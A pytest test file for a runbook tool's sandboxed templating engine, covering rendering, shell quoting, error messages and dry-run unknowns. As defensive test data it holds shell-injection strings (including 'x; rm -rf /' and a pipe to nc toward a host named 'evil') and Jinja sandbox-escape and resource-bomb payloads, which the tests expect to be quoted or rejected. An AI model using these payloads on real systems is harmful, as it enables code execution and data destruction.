"""Sandboxed templating: rendering, native values, shell quoting, errors and dry-run unknowns."""

from __future__ import annotations

import contextlib
import shlex
import subprocess
import sys
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from runbook.errors import TemplateError
from runbook.expr.templating import Renderer, UnknownValue, has_template, shell_join, shell_quote
from runbook.expr.values import UNKNOWN

NAMESPACE: dict[str, Any] = {
    "params": {
        "service": "api",
        "namespace": "production",
        "t": 5,
        "ratio": 0.5,
        "flag": True,
        "hosts": ["a", "b"],
        "v": "x",
    },
    "steps": {
        "health": {"passed": False, "status": 503, "output": "down\n", "json": {"n": 2}},
        "check-db": {"passed": True, "output": "db ok"},
        "update": {"output": "from the update step"},
        "later": UNKNOWN,
        "half": {"passed": True, "output": UNKNOWN},
    },
    "target": {"name": "web", "host": "10.0.0.5", "user": "deploy"},
    "vars": {"lag": 3},
}


@pytest.fixture
def renderer() -> Renderer:
    return Renderer(NAMESPACE)


# --- rendering --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("template", "expected"),
    [
        ("restart {{ params.service }} in {{ params.namespace }}", "restart api in production"),
        ("{{ steps.health.status }}: {{ steps.health.output | trim }}", "503: down"),
        ("ssh {{ target.user }}@{{ target.host }}", "ssh deploy@10.0.0.5"),
        ("{% if steps.health.passed %}ok{% else %}down{% endif %}", "down"),
        ("{% for h in params.hosts %}{{ h }},{% endfor %}", "a,b,"),
        ("{{ params['service'] | upper }}", "API"),
        ("line\n", "line\n"),
        ("{{ params.service }}\n", "api\n"),
    ],
)
def test_params_steps_and_target_render(renderer: Renderer, template: str, expected: str) -> None:
    assert renderer.render_text(template) == expected


def test_strings_without_template_syntax_come_back_unchanged(renderer: Renderer) -> None:
    text = "echo ${#array[@]} {not a template}"
    assert renderer.render_text(text) is text
    assert renderer.render_value(text) is text
    assert not has_template(text) and has_template("{{ x }}") and has_template("{% if x %}")


def test_hyphenated_step_ids_work_in_templates(renderer: Renderer) -> None:
    assert renderer.render_text("{{ steps.check-db.output }}") == "db ok"
    assert renderer.render_text("{{ steps['check-db'].output }}") == "db ok"
    assert renderer.render_value("{{ steps.check-db.passed }}") is True
    # only inside blocks: literal text and string literals keep their hyphens
    assert renderer.render_text("steps.check-db: {{ 'steps.check-db' }}") == (
        "steps.check-db: steps.check-db"
    )


def test_a_step_id_that_is_also_a_dict_method_is_the_step(renderer: Renderer) -> None:
    assert renderer.render_text("{{ steps.update.output }}") == "from the update step"


# --- native values ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("template", "expected"),
    [
        ("{{ params.t }}", 5),
        ("  {{ params.t }}  ", 5),
        ("{{ params.ratio }}", 0.5),
        ("{{ params.flag }}", True),
        ("{{ params.hosts }}", ["a", "b"]),
        ("{{ params.service }}", "api"),
        ("{{ params.t * 2 }}", 10),
        ("{{ steps.health.json }}", {"n": 2}),
        ("{{ params.t }}s", "5s"),
        ("{{ params.t }}{{ params.t }}", "55"),
        ("{{- params.t }}", "5"),
    ],
)
def test_a_lone_expression_keeps_its_type(renderer: Renderer, template: str, expected: Any) -> None:
    assert renderer.render_value(template) == expected
    assert type(renderer.render_value(template)) is type(expected)


def test_render_value_walks_dicts_and_lists_and_quotes_only_shell_fields(
    renderer: Renderer,
) -> None:
    config = {
        "argv": ["systemctl", "restart", "{{ params.service }}"],
        "timeout": "{{ params.t }}",
        "command": "journalctl -u {{ params.service }} | tail -n {{ params.t }}",
        "env": {"SERVICE": "{{ params.service }}", "N": 3},
        "pair": ("{{ params.t }}", None),
    }
    assert renderer.render_value(config, shell_fields=("command",)) == {
        "argv": ["systemctl", "restart", "api"],
        "timeout": 5,
        "command": "journalctl -u api | tail -n 5",
        "env": {"SERVICE": "api", "N": 3},
        "pair": (5, None),
    }


def test_shell_fields_render_lone_expressions_as_quoted_text(renderer: Renderer) -> None:
    rendered = renderer.render_value(
        {"command": "{{ params.t }}", "other": "{{ params.t }}"}, shell_fields=("command",)
    )
    assert rendered == {"command": "5", "other": 5}
    hostile = Renderer({"params": {"v": "a b"}})
    assert hostile.render_value({"command": "{{ params.v }}"}, shell_fields=("command",)) == {
        "command": "'a b'"
    }


# --- shell quoting ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "hostile",
    [
        "x; rm -rf /",
        "a | nc evil 1",
        "$(reboot)",
        "`id`",
        "a\nreboot",
        "' ; echo '",
        '"',
        "",
        " ",
        "--force",
        "a && b",
        "*",
        "~root",
        "$HOME",
        "\\",
        "a\tb",
        "'\"'\"'",
    ],
)
def test_a_parameter_is_always_exactly_one_shell_word(hostile: str) -> None:
    rendered = Renderer({"params": {"v": hostile}}).render_text(
        "echo {{ params.v }} end", shell=True
    )
    assert shlex.split(rendered) == ["echo", hostile, "end"]


@settings(max_examples=500, deadline=None)
@given(st.text(alphabet=st.characters(blacklist_characters="\x00")))
def test_no_value_can_change_the_argv_of_a_shell_template(text: str) -> None:
    rendered = Renderer({"params": {"v": text}}).render_text("echo {{ params.v }} end", shell=True)
    assert shlex.split(rendered) == ["echo", text, "end"]


@settings(max_examples=200, deadline=None)
@given(st.lists(st.text(alphabet=st.characters(blacklist_characters="\x00")), max_size=4))
def test_every_expression_output_is_quoted_separately(values: list[str]) -> None:
    template = "cmd{% for v in params.vs %} {{ v }}{% endfor %} --end"
    rendered = Renderer({"params": {"vs": values}}).render_text(template, shell=True)
    assert shlex.split(rendered) == ["cmd", *values, "--end"]


def test_literal_template_text_is_not_quoted_in_shell_mode(renderer: Renderer) -> None:
    assert renderer.render_text("systemctl status {{ params.service }} | head", shell=True) == (
        "systemctl status api | head"
    )


def test_shell_helpers_quote_every_word() -> None:
    assert shell_quote("a b") == "'a b'"
    assert shell_quote(5) == "5"
    assert shell_join(["echo", "a b", 3, "$(x)"]) == "echo 'a b' 3 '$(x)'"


# --- errors -----------------------------------------------------------------------------------


def test_a_misspelled_attribute_names_the_variable_and_the_template(renderer: Renderer) -> None:
    with pytest.raises(TemplateError) as caught:
        renderer.render_text("restart {{ params.servce }}")
    assert caught.value.message == (
        "'params' has no attribute 'servce' in template 'restart {{ params.servce }}'; "
        "did you mean 'service'?"
    )


def test_an_undefined_name_lists_what_is_available(renderer: Renderer) -> None:
    with pytest.raises(TemplateError) as caught:
        renderer.render_value("{{ parms.service }}")
    assert caught.value.message == (
        "'parms' is undefined in template '{{ parms.service }}'; "
        "available: params, steps, target, vars; did you mean 'params'?"
    )


def test_missing_keys_deeper_down_name_the_whole_path(renderer: Renderer) -> None:
    with pytest.raises(TemplateError, match="'steps.health.json' has no attribute 'm'"):
        renderer.render_text("{{ steps.health.json.m }}")
    with pytest.raises(
        TemplateError, match="'steps.check-db' has no attribute 'outptu'.*did you mean 'output'"
    ):
        renderer.render_text("{{ steps.check-db.outptu }}")


def test_syntax_errors_are_template_errors(renderer: Renderer) -> None:
    with pytest.raises(TemplateError, match=r"syntax error in template '\{\{ x': .*\(line 1\)"):
        renderer.render_text("{{ x")


@pytest.mark.parametrize(
    "template",
    [
        "{{ params.__class__ }}",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{{ params.service.__class__.__base__ }}",
        "{{ cycler.__init__.__globals__.os }}",
        "{{ lipsum.__globals__['os'].system('id') }}",
        "{{ joiner.__init__.__globals__ }}",
        "{{ ''.format.__self__ }}",
        "{{ '{0.__class__}'.format(params) }}",
        "{{ params.hosts.append('evil') }}",
        "{{ params.pop('service') }}",
        "{{ range(10 ** 9) | list }}",
        "{{ 'x' * 1000000000 }}",
        "{{ 2 ** 100000 }}",
    ],
)
def test_sandbox_escapes_and_resource_bombs_are_template_errors(template: str) -> None:
    namespace = {"params": {"service": "api", "hosts": ["a"]}}
    with pytest.raises(TemplateError) as caught:
        Renderer(namespace).render_value(template)
    assert template in caught.value.message
    assert namespace == {"params": {"service": "api", "hosts": ["a"]}}


# --- dry-run unknowns -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("template", "ref"),
    [
        ("{{ steps.later.output }}", "steps.later.output"),
        ("echo {{ steps.later.output }}", "steps.later.output"),
        ("{{ steps.later.output | upper }}", "steps.later.output"),
        ("{{ steps.later.output | default('n/a') }}", "steps.later.output"),
        ("{% if steps.later.passed %}y{% endif %}", "steps.later.passed"),
        ("{{ steps.later['output'] }}", "steps.later['output']"),
        ("{{ steps.later.output.split() }}", "steps.later.output"),
        ("{{ steps.half.output }}", "steps.half.output"),
        ("{{ steps.half }}", "steps.half"),
        ("{{ steps.later.n + 1 }}", "steps.later.n"),
        ("{{ vars.x }}", "vars.x"),
    ],
)
def test_a_value_known_only_at_run_time_raises_unknown_value(template: str, ref: str) -> None:
    namespace = {**NAMESPACE, "vars": UNKNOWN}
    with pytest.raises(UnknownValue) as caught:
        Renderer(namespace).render_value(template)
    assert caught.value.reason == f"depends on {ref}"
    assert caught.value.ref == ref
    assert isinstance(caught.value, TemplateError)


def test_unknown_values_are_reported_in_shell_mode_and_nested_configs(renderer: Renderer) -> None:
    with pytest.raises(UnknownValue, match="depends on steps.later.output"):
        renderer.render_text("grep {{ steps.later.output }}", shell=True)
    with pytest.raises(UnknownValue, match="depends on steps.check-db.x"):
        Renderer({"steps": {"check-db": UNKNOWN}}).render_value(
            {"argv": ["echo", "{{ steps.check-db.x }}"]}
        )


def test_unknown_values_reached_through_a_loop_are_still_unknown() -> None:
    renderer = Renderer({"steps": {"a": UNKNOWN, "b": {"output": "x"}}})
    with pytest.raises(UnknownValue, match="^depends on steps in template"):
        renderer.render_text("{% for s in steps.values() %}{{ s.output }}{% endfor %}")
    with pytest.raises(UnknownValue, match="^depends on steps in template"):
        renderer.render_text("{% for s in steps.values() %}{{ s }}{% endfor %}")
    indirect = Renderer({"items": [{"output": UNKNOWN}]})
    with pytest.raises(UnknownValue, match="^depends on items in template"):
        indirect.render_text("{% for s in items %}{% set o = s.output %}{{ o }}{% endfor %}")


def test_known_parts_of_a_partly_unknown_step_still_render(renderer: Renderer) -> None:
    assert renderer.render_value("{{ steps.half.passed }}") is True


# --- start-up cost ----------------------------------------------------------------------------


def test_importing_the_modules_does_not_import_jinja2() -> None:
    code = (
        "import sys, runbook.expr.templating, runbook.expr.expression;"
        " sys.exit('jinja2' in sys.modules)"
    )
    assert subprocess.run([sys.executable, "-c", code], check=False).returncode == 0


_FRAGMENTS = [
    "{{",
    "}}",
    "{%",
    "%}",
    " params",
    ".a",
    ".s",
    "steps.x-y",
    "[",
    "]",
    "(",
    ")",
    "|",
    "upper",
    "*",
    "**",
    "'",
    '"',
    "if",
    "for",
    " in ",
    "endif",
    "endfor",
    "__class__",
    "1",
    "-",
    "range",
    "lipsum",
    ".__globals__",
    "{#",
    "#}",
]


@settings(max_examples=400, deadline=None)
@given(st.lists(st.sampled_from(_FRAGMENTS), max_size=12).map("".join), st.booleans())
def test_any_template_text_fails_only_with_template_errors(template: str, shell: bool) -> None:
    renderer = Renderer({"params": {"a": 1, "s": "x"}, "steps": {"x-y": UNKNOWN}})
    with contextlib.suppress(TemplateError):
        if shell:
            renderer.render_text(template, shell=True)
        else:
            renderer.render_value(template)
